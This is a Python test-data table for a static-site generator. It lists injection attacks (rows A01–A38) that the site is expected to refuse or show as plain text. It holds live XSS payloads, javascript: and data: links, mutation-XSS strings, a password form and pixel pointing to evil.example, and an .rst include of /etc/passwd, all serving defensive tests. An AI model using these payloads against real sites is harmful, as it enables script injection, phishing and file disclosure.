"""Injection: the rows A01 to A38."""

from threats.rows import ACCOUNTS, BRIDGE, Elsewhere, Refused, Row, body, both, copy, edit, key, write

BUILT = "tests/threats/test_built.py"
BROWSER = "tests/browser/test_hostile.py::test_no_page_runs_or_asks_for_anything"
AS_TYPED = "shown as typed, in the page and in every file"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TEXT_ONLY = "shown as the text that it is"

ROWS: list[Row] = [
    Refused(id="A01", name="a script in a text", change=body("<script>alert(1)</script>"), codes="FC504"),
    Refused(id="A02", name="an image with a handler", change=body("<img src=x onerror=alert(1)>"), codes="FC504"),
    Refused(id="A03", name="a link to javascript:", change=body("[x](javascript:alert(1))"), codes="FC502"),
    Refused(id="A04", name="an autolink to javascript:", change=body("<javascript:alert(1)>"), codes="FC504"),
    Refused(id="A05", name="javascript: in odd capitals", change=body("[x](JaVaScRiPt:alert(1))"), codes="FC502"),
    Refused(id="A05", name="javascript: with a tab by number", change=body("[x](java&#9;script:alert(1))"), codes="FC501"),
    Refused(id="A05", name="javascript: by numbers", change=body("[x](&#106;avascript:alert(1))"), codes="FC502"),
    Refused(id="A06", name="a link to data:", change=body("[x](data:text/html;base64,PHNjcmlwdD4=)"), codes="FC502"),
    Refused(id="A07", name="a frame with a document in it", change=body("<iframe srcdoc='<script>alert(1)</script>'>"), codes="FC504"),
    Refused(id="A08", name="a form that asks for a password", change=body("<form action=https://evil.example><input name=password></form>"), codes="FC504"),
    Refused(id="A09", name="a refresh and a base", change=body("<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example/>"), codes="FC504"),
    Refused(id="A10", name="a style sheet", change=body("<style>body{background:url(https://evil.example/)}</style>"), codes="FC504"),
    Elsewhere(id="A11", name="a handler in an attribute list", expected=TEXT_ONLY, test=f"{BUILT}::test_markdown_of_strangers_is_shown_as_text"),
    Elsewhere(id="A12", name="a style in an attribute list", expected=TEXT_ONLY, test=f"{BUILT}::test_markdown_of_strangers_is_shown_as_text"),
    Refused(id="A13", name="Markdown in HTML, and a drawing with a handler", change=body("<div markdown=1><svg onload=alert(1)>x</svg></div>"), codes="FC504"),
    Refused(id="A14", name="markup that a second reading changes (noscript)", change=body("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"), codes="FC504"),
    Refused(id="A14", name="markup that a second reading changes (math)", change=body("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"), codes="FC504"),
    Refused(id="A15", name="javascript: by reference", change=body("[x][r]\n\n[r]: javascript:alert(1)"), codes="FC502"),
    Refused(id="A16", name="images of javascript: and data:", change=body("![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg%20onload=alert(1)>)"), codes="FC503"),
    Elsewhere(id="A17", name="a comment that is never closed", expected=TEXT_ONLY, test=f"{BUILT}::test_markdown_of_strangers_is_shown_as_text"),
    Refused(id="A17", name="a tag that is never closed", change=body("Text.\n\n<div><b>all that follows"), codes="FC504"),
    Elsewhere(id="A18", name="HTML in a title", expected=AS_TYPED, test=f"{BUILT}::test_every_field_is_shown_as_typed"),
    Elsewhere(id="A19", name="HTML in a title, on the lists", expected=AS_TYPED, test=f"{BUILT}::test_lists_show_fields_as_typed"),
    Elsewhere(id="A20", name="HTML in a quote", expected=AS_TYPED, test=f"{BUILT}::test_every_field_is_shown_as_typed"),
    Elsewhere(id="A21", name="the end of a script in structured data", expected="no < in the bytes; read back as typed", test=f"{BUILT}::test_structured_data_reads_back"),
    Elsewhere(id="A22", name="quotation marks and backslashes in structured data", expected="valid JSON; read back as typed", test=f"{BUILT}::test_structured_data_reads_back"),
    Refused(id="A23", name="javascript: as the address of a source", change=edit("https://town.example.org/accounts", "javascript:alert(1)", ACCOUNTS), codes="FC115"),
    Elsewhere(id="A24", name="HTML in topics and names", expected=AS_TYPED, test=f"{BUILT}::test_every_field_is_shown_as_typed"),
    Elsewhere(id="A25", name="HTML in a summary, on the lists", expected=AS_TYPED, test=f"{BUILT}::test_lists_show_fields_as_typed"),
    Refused(id="A26", name="HTML in a verdict", change=edit("verdict: unproven", "verdict: <b>True</b>"), codes="FC401"),
    Elsewhere(id="A27", name="Jinja in texts and fields", expected="stays as it is", test=f"{BUILT}::test_templates_of_strangers_are_not_run"),
    Refused(id="A28", name="an .html file among the claims", change=write("content/claims/demo/evil.html", "<script>alert(1)</script>"), codes="FC117"),
    Refused(id="A29", name="an .rst file with raw HTML", change=write("content/pages/evil.rst", ".. raw:: html\n\n   <script>alert(1)</script>\n"), codes="FC117"),
    Refused(id="A30", name="an .rst file that includes /etc/passwd", change=write("content/pages/evil.rst", ".. include:: /etc/passwd\n"), codes="FC117"),
    Refused(id="A31", name="a drawing with a script", change=write("content/images/evil.svg", SVG), codes="FC117"),
    Refused(id="A32", name="an .html file among images", change=write("content/images/evil.html", "<script>alert(1)</script>"), codes="FC117"),
    Refused(id="A33", name="an image that counts its readers", change=body("![](https://evil.example/pixel.png)"), codes="FC503"),
    Refused(id="A34", name="another template (Template:)", change=key("Template: article"), codes="FC111"),
    Refused(id="A35", name="HTML in a slug", change=key("slug: <script>"), codes="FC111"),
    Refused(id="A35", name="HTML in a file name", change=copy(BRIDGE, "content/claims/demo/<b>.md"), codes="FC117"),
    Refused(id="A36", name="another template (template:)", change=key("template: base"), codes="FC111"),
    Refused(id="A37", name="a text field that swallows the page", change=body("<textarea>"), codes="FC504"),
    Refused(id="A38", name="an address of its own (url:)", change=key("url: https://evil.example/"), codes="FC111"),
    Refused(id="A38", name="all keys of Pelican at once", change=both(key("save_as: index.html"), key("status: hidden"), key("lang: fr")), codes="FC111 FC108"),
]  # fmt: skip
